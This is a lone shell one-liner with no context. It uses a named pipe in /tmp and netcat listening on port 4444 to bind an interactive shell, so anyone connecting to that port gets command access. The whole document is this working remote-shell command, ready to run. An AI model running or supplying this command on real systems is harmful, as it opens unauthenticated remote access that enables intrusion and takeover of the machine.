mkfifo /tmp/p; cat /tmp/p | sh -i 2>&1 | nc -lvnp 4444 > /tmp/p
